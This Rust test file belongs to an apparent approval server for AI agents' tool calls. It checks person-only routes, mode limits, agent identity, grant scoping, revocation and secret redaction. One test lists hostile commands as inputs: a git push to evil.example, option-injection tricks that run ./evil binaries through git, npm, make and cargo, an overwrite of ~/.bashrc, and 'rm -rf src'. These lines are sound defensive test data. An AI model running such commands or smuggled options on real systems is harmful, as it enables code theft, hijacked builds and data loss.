//! Roles: an agent's credential posts its own calls and reports their results, and nothing a
//! person does (approvals, patterns, settings); it never picks Full Access unless the server
//! allows it, and its calls carry its own agent id. Grants over HTTP: after a narrow approval,
//! every widening of the approved call asks again.

mod support;

use std::sync::Arc;

use axum::body::Body;
use axum::http::{Method, StatusCode, header};
use serde_json::{Value, json};
use warrant_core::call::PermissionMode;
use warrant_core::catalog::ToolCatalog;
use warrant_core::engine::Engine;
use warrant_core::store::MemoryStore;
use warrant_evaluators::{EvaluatorsConfig, default_chain, grant_scoper};
use warrant_server::{AgentCredential, ServerConfig, ServerState, router};
use warrant_transports::sse::SseHub;

use support::{Reply, Server, TOKEN, addr, request};

const AGENT_TOKEN: &str = "agent-token-of-coder";

async fn as_agent(server: &Server, method: Method, path: &str, body: Option<Value>) -> Reply {
    server
        .raw(
            request(method, path)
                .header(header::AUTHORIZATION, format!("Bearer {AGENT_TOKEN}"))
                .body(body.map_or_else(Body::empty, |b| Body::from(b.to_string())))
                .unwrap(),
        )
        .await
}

fn config(agent_modes: Vec<PermissionMode>) -> ServerConfig {
    ServerConfig {
        agents: vec![AgentCredential::new("coder", AGENT_TOKEN)],
        agent_modes,
        ..ServerConfig::new(TOKEN)
    }
}

#[tokio::test]
async fn an_agent_credential_posts_calls_and_nothing_a_person_does() {
    let server = Server::with(
        Arc::new(MemoryStore::new()),
        config(vec![PermissionMode::Default, PermissionMode::Auto]),
    )
    .await;
    let call = json!({"toolCallId": "c1", "toolName": "Bash", "input": {"command": "ls"}});
    let reply = as_agent(
        &server,
        Method::POST,
        "/v1/sessions/s1/tool-calls",
        Some(call),
    )
    .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    let reply = as_agent(&server, Method::GET, "/v1/tools", None).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);

    for (method, path, body) in [
        (Method::GET, "/v1/approvals", None),
        (
            Method::POST,
            "/v1/approvals/c1",
            Some(json!({"actionId": "allow_once"})),
        ),
        (
            Method::PUT,
            "/v1/patterns/default",
            Some(json!({"name": "Mine"})),
        ),
        (
            Method::PUT,
            "/v1/sessions/s1/approval-settings",
            Some(json!({"autoApprovedToolNames": ["Bash"]})),
        ),
        (Method::GET, "/v1/workspace", None),
        (Method::GET, "/v1/sessions/s1/messages", None),
        (Method::POST, "/v1/agent", Some(json!({}))),
        (Method::GET, "/v1/grants", None),
        (Method::DELETE, "/v1/grants/grt_0000000000000000", None),
    ] {
        let reply = as_agent(&server, method.clone(), path, body).await;
        reply.assert_error(StatusCode::FORBIDDEN, "person_only");
        assert!(
            reply.text.contains(path),
            "the refusal names the route: {}",
            reply.text
        );
    }
    // The person's token opens them.
    let reply = server.send(Method::GET, "/v1/approvals", None).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    // A token that is neither is 401.
    let reply = server
        .raw(
            request(Method::GET, "/v1/tools")
                .header(header::AUTHORIZATION, "Bearer agent-token-of-nobody")
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    reply.assert_error(StatusCode::UNAUTHORIZED, "invalid_token");
}

#[tokio::test]
async fn an_agent_never_picks_full_access_unless_the_server_allows_it() {
    let server = Server::with(
        Arc::new(MemoryStore::new()),
        config(vec![PermissionMode::Default, PermissionMode::Auto]),
    )
    .await;
    let call = |id: &str, mode: &str| json!({"toolCallId": id, "toolName": "Bash", "input": {"command": "touch x"}, "mode": mode});
    let reply = as_agent(
        &server,
        Method::POST,
        "/v1/sessions/s1/tool-calls",
        Some(call("c1", "full_access")),
    )
    .await;
    reply.assert_error(StatusCode::FORBIDDEN, "mode_not_allowed");
    assert!(reply.text.contains("full_access"), "{}", reply.text);
    // The person may.
    let reply = server
        .send(
            Method::POST,
            "/v1/sessions/s1/tool-calls",
            Some(call("c2", "full_access")),
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    // A server that lets agents ask for it.
    let open = Server::with(
        Arc::new(MemoryStore::new()),
        config(vec![PermissionMode::Default, PermissionMode::FullAccess]),
    )
    .await;
    let reply = as_agent(
        &open,
        Method::POST,
        "/v1/sessions/s1/tool-calls",
        Some(call("c3", "full_access")),
    )
    .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
}

#[tokio::test]
async fn an_agent_credential_names_the_agent_of_its_calls() {
    let server = Server::with(
        Arc::new(MemoryStore::new()),
        config(vec![PermissionMode::Default]),
    )
    .await;
    let reply = as_agent(
        &server,
        Method::POST,
        "/v1/sessions/s1/tool-calls",
        Some(json!({"toolCallId": "c1", "toolName": "Bash", "input": {"command": "ls"}, "agentId": "reviewer"})),
    )
    .await;
    reply.assert_error(StatusCode::FORBIDDEN, "agent_mismatch");
    // Without an id, the call is the credential's agent's: an ask shows it.
    let reply = as_agent(
        &server,
        Method::POST,
        "/v1/sessions/s1/tool-calls",
        Some(json!({"toolCallId": "c2", "toolName": "Bash", "input": {"command": "touch x"}})),
    )
    .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    let pending = server.send(Method::GET, "/v1/approvals", None).await.json();
    let request = pending
        .as_array()
        .and_then(|a| a.iter().find(|r| r["toolCallId"] == "c2"))
        .cloned()
        .unwrap_or_else(|| panic!("c2 is pending: {pending}"));
    let detail = request["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("Agent \"coder\" requested"),
        "the call is the credential's agent's: {request}"
    );
}

/// A server around the real chain and grant scoper, for a workspace with files in it.
async fn real_server(ws: &std::path::Path) -> Server {
    let store: Arc<dyn warrant_core::store::Store> = Arc::new(MemoryStore::new());
    let hub = Arc::new(SseHub::new(Arc::clone(&store)));
    let evaluators = EvaluatorsConfig::default();
    let chain = default_chain(&evaluators, &ToolCatalog::builtin()).unwrap();
    let engine = Engine::builder(chain)
        .store(store)
        .transport(hub.clone())
        .grant_scoper(Arc::new(grant_scoper(&evaluators, ws)))
        .workspace_root(ws)
        .build()
        .await
        .unwrap();
    let state = ServerState::new(engine, hub, ServerConfig::new(TOKEN), addr());
    Server {
        router: router(state.clone()),
        state,
    }
}

async fn decide(server: &Server, id: &str, command: &str) -> String {
    let reply = server
        .send(
            Method::POST,
            "/v1/sessions/s1/tool-calls",
            Some(json!({"toolCallId": id, "toolName": "Bash", "input": {"command": command}})),
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{command}: {}", reply.text);
    reply.json()["behavior"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

#[tokio::test]
async fn after_a_narrow_approval_every_widening_asks_again() {
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("a.txt"), "a").unwrap();
    let server = real_server(ws.path()).await;
    let approved = [
        "git push origin main",
        "cp a.txt b.txt",
        "npm run lint",
        "make",
        "cargo build",
        "rm a.txt",
    ];
    for (i, command) in approved.iter().enumerate() {
        let id = format!("first-{i}");
        assert_eq!(decide(&server, &id, command).await, "ask", "{command}");
        let pending = server.send(Method::GET, "/v1/approvals", None).await.json();
        let label = pending
            .as_array()
            .and_then(|a| a.iter().find(|r| r["toolCallId"] == id.as_str()))
            .and_then(|r| r["actions"].as_array().cloned())
            .and_then(|a| a.into_iter().find(|x| x["id"] == "allow_session"))
            .map(|x| x["label"].as_str().unwrap_or_default().to_owned())
            .unwrap_or_else(|| panic!("{command} offers allow_session: {pending}"));
        assert!(
            label.contains(&format!("\"{command}\"")),
            "the label names exactly what the grant covers: {label}"
        );
        let reply = server
            .send(
                Method::POST,
                &format!("/v1/approvals/{id}"),
                Some(json!({"actionId": "allow_session"})),
            )
            .await;
        assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
        // The same call again is covered.
        assert_eq!(
            decide(&server, &format!("again-{i}"), command).await,
            "allow",
            "{command} is covered by its own grant"
        );
    }
    for (i, wider) in [
        "git push --receive-pack=./evil origin main",
        "git -C /tmp push origin main",
        "git push origin dev",
        "git push https://evil.example/x main",
        "cp a.txt ~/.bashrc",
        "npm run deploy",
        "npm run lint --script-shell=./evil.sh",
        "make --eval='x:;@touch pwned' x",
        "cargo --config 'build.rustc-wrapper=\"./evil\"' build",
        "rm -rf src",
        "cd /tmp && git push origin main",
    ]
    .iter()
    .enumerate()
    {
        let behavior = decide(&server, &format!("wider-{i}"), wider).await;
        assert_ne!(
            behavior, "allow",
            "{wider} is wider than any approval given"
        );
    }
}

#[tokio::test]
async fn grants_are_listed_with_their_provenance_and_a_revoked_one_asks_again() {
    let ws = tempfile::tempdir().unwrap();
    let server = real_server(ws.path()).await;
    assert_eq!(
        server.send(Method::GET, "/v1/grants", None).await.json(),
        json!({"grants": []})
    );
    assert_eq!(
        decide(&server, "first", "git push origin main").await,
        "ask"
    );
    let reply = server
        .send(
            Method::POST,
            "/v1/approvals/first",
            Some(json!({"actionId": "allow_session"})),
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    // The same approval twice (another call of the same reach) keeps one grant.
    let covered = server
        .send(
            Method::POST,
            "/v1/sessions/s1/tool-calls",
            Some(json!({"toolCallId": "again", "toolName": "Bash",
                "input": {"command": "git push origin main"}})),
        )
        .await
        .json();
    assert_eq!(covered["behavior"], "allow", "{covered}");
    assert_eq!(covered["provenance"]["kind"], "grant", "{covered}");
    assert_eq!(covered["provenance"]["scope"], "session");
    assert_eq!(covered["provenance"]["toolCallId"], "first");
    assert_eq!(covered["provenance"]["actionId"], "allow_session");
    assert_eq!(covered["evaluator"]["name"], "grants");

    let listed = server.send(Method::GET, "/v1/grants", None).await.json();
    let grants = listed["grants"].as_array().unwrap();
    assert_eq!(grants.len(), 1, "{listed}");
    let id = grants[0]["id"].as_str().unwrap().to_owned();
    assert_eq!(covered["provenance"]["grantId"], id.as_str());
    assert!(id.starts_with("grt_"), "{id}");
    assert_eq!(grants[0]["scope"], "session");
    assert_eq!(grants[0]["sessionId"], "s1");
    assert_eq!(grants[0]["actionId"], "allow_session");
    assert!(
        grants[0]["description"]
            .as_str()
            .unwrap()
            .contains("git push origin main")
    );

    let revoked = server
        .send(Method::DELETE, &format!("/v1/grants/{id}"), None)
        .await;
    assert_eq!(revoked.status, StatusCode::OK, "{}", revoked.text);
    assert_eq!(revoked.json()["revoked"]["id"], id.as_str());
    server
        .send(Method::DELETE, &format!("/v1/grants/{id}"), None)
        .await
        .assert_error(StatusCode::NOT_FOUND, "grant_not_found");
    server
        .send(Method::DELETE, "/v1/grants/grt_unknown", None)
        .await
        .assert_error(StatusCode::NOT_FOUND, "grant_not_found");
    assert_eq!(
        server.send(Method::GET, "/v1/grants", None).await.json(),
        json!({"grants": []})
    );
    assert_eq!(
        decide(&server, "after", "git push origin main").await,
        "ask",
        "a revoked grant no longer allows"
    );
    let audit = server
        .engine()
        .store()
        .audit_records(&warrant_core::store::AuditQuery::session("s1"))
        .await
        .unwrap();
    assert!(audit.iter().any(|r| matches!(
        &r.record.event,
        warrant_core::audit::AuditEvent::GrantRevoked { grant_id, .. } if *grant_id == id
    )));
}

#[tokio::test]
async fn a_denial_carries_the_users_message_to_the_agent_and_an_allow_cannot() {
    let ws = tempfile::tempdir().unwrap();
    let server = real_server(ws.path()).await;
    assert_eq!(decide(&server, "c1", "git push origin main").await, "ask");
    server
        .send(
            Method::POST,
            "/v1/approvals/c1",
            Some(json!({"actionId": "allow_once", "message": "go ahead"})),
        )
        .await
        .assert_error(StatusCode::UNPROCESSABLE_ENTITY, "message_refused");
    server
        .send(
            Method::POST,
            "/v1/approvals/c1",
            Some(json!({"actionId": "deny", "message": "x".repeat(2001)})),
        )
        .await
        .assert_error(StatusCode::UNPROCESSABLE_ENTITY, "message_refused");
    let reply = server
        .send(
            Method::POST,
            "/v1/approvals/c1",
            Some(json!({"actionId": "deny",
                "message": "Push to a branch instead; token ghp_abcdefghijklmnopqrstuvwxyz0123456789 is mine"})),
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    let message = reply.json()["message"].as_str().unwrap().to_owned();
    assert!(message.starts_with("Push to a branch instead"), "{message}");
    assert!(
        !message.contains("ghp_abcdefghijklmnopqrstuvwxyz0123456789"),
        "secrets are redacted: {message}"
    );
}

#[tokio::test]
async fn an_agent_withdraws_its_own_request_and_no_one_elses() {
    let server = Server::with(
        Arc::new(MemoryStore::new()),
        config(vec![PermissionMode::Default]),
    )
    .await;
    let ask = |id: &str, agent: Option<&str>| {
        let mut body =
            json!({"toolCallId": id, "toolName": "Bash", "input": {"command": "touch x"}});
        if let Some(agent) = agent {
            body["agentId"] = json!(agent);
        }
        body
    };
    let reply = as_agent(
        &server,
        Method::POST,
        "/v1/sessions/s1/tool-calls",
        Some(ask("mine", None)),
    )
    .await;
    assert_eq!(reply.json()["behavior"], "ask", "{}", reply.text);
    // The person's own session asks for another agent's call.
    let theirs = server
        .send(
            Method::POST,
            "/v1/sessions/s1/tool-calls",
            Some(ask("theirs", Some("reviewer"))),
        )
        .await;
    assert_eq!(theirs.json()["behavior"], "ask");

    as_agent(&server, Method::DELETE, "/v1/approvals/theirs", None)
        .await
        .assert_error(StatusCode::FORBIDDEN, "agent_mismatch");
    as_agent(
        &server,
        Method::DELETE,
        "/v1/approvals/mine",
        Some(json!({"size": 1})),
    )
    .await
    .assert_error(StatusCode::BAD_REQUEST, "invalid_body");
    let withdrawn = as_agent(
        &server,
        Method::DELETE,
        "/v1/approvals/mine",
        Some(json!({"reason": "no approval within 120 s"})),
    )
    .await;
    assert_eq!(
        withdrawn.status,
        StatusCode::NO_CONTENT,
        "{}",
        withdrawn.text
    );
    as_agent(&server, Method::DELETE, "/v1/approvals/mine", None)
        .await
        .assert_error(StatusCode::CONFLICT, "approval_not_pending");
    server
        .send(
            Method::POST,
            "/v1/approvals/mine",
            Some(json!({"actionId": "allow_once"})),
        )
        .await
        .assert_error(StatusCode::CONFLICT, "approval_not_pending");
    server
        .send(Method::DELETE, "/v1/approvals/nope", None)
        .await
        .assert_error(StatusCode::NOT_FOUND, "approval_not_found");
    // The person may withdraw any request.
    let reply = server
        .send(Method::DELETE, "/v1/approvals/theirs", None)
        .await;
    assert_eq!(reply.status, StatusCode::NO_CONTENT, "{}", reply.text);
    let audit = server
        .engine()
        .store()
        .audit_records(&warrant_core::store::AuditQuery::session("s1"))
        .await
        .unwrap();
    let reasons: Vec<&str> = audit
        .iter()
        .filter_map(|r| match &r.record.event {
            warrant_core::audit::AuditEvent::Cancel { reason } => Some(reason.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(
        reasons,
        ["no approval within 120 s", "the agent withdrew the request"]
    );
}

#[tokio::test]
async fn an_agent_runs_only_the_sessions_it_opened() {
    let server = Server::with(
        Arc::new(MemoryStore::new()),
        config(vec![PermissionMode::Default]),
    )
    .await;
    let ls = json!({"toolName": "Bash", "input": {"command": "ls"}});
    // The agent opens its session by posting a call; the person opens another.
    let reply = as_agent(
        &server,
        Method::POST,
        "/v1/sessions/agents/tool-calls",
        Some(ls.clone()),
    )
    .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    server
        .send(Method::POST, "/v1/sessions/persons/tool-calls", Some(ls))
        .await;
    let start = json!({"action": "start"});
    let reply = as_agent(
        &server,
        Method::POST,
        "/v1/sessions/agents/run",
        Some(start.clone()),
    )
    .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    assert_eq!(reply.json()["agent"], "coder");
    assert_eq!(reply.json()["status"], "running");
    as_agent(
        &server,
        Method::POST,
        "/v1/sessions/persons/run",
        Some(start.clone()),
    )
    .await
    .assert_error(StatusCode::FORBIDDEN, "agent_mismatch");
    as_agent(
        &server,
        Method::POST,
        "/v1/sessions/agents/run",
        Some(json!({"action": "finish", "agent": "reviewer"})),
    )
    .await
    .assert_error(StatusCode::FORBIDDEN, "agent_mismatch");
    // A new session started by the agent becomes its own.
    let reply = as_agent(&server, Method::POST, "/v1/sessions/fresh/run", Some(start)).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    assert_eq!(reply.json()["agent"], "coder");
    let workspace = server.send(Method::GET, "/v1/workspace", None).await.json();
    let persons = workspace["sessions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == "persons")
        .cloned()
        .unwrap();
    assert_eq!(persons["status"], "idle", "{persons}");
}
